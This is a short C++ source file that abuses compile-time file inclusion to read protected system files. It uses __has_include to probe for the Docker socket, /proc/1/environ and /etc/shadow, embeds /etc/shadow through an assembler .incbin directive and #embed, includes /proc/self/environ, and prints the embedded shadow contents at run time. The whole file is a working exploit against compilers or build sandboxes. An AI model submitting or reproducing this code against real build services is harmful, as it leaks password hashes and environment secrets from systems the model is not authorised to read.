// Lets the compiler read what the program might not: as source, as data, and through the assembler.
#include <cstdio>
#if __has_include("/var/run/docker.sock") || __has_include("/proc/1/environ") || __has_include("/etc/shadow")
#warning reachable by name
#endif
asm(".section .rodata\nsecret: .incbin \"/etc/shadow\"\n");
#include "/proc/self/environ"
static const unsigned char key[] = {
#embed "/etc/shadow"
};

int main() {
  std::fwrite(key, 1, sizeof key, stdout);
}
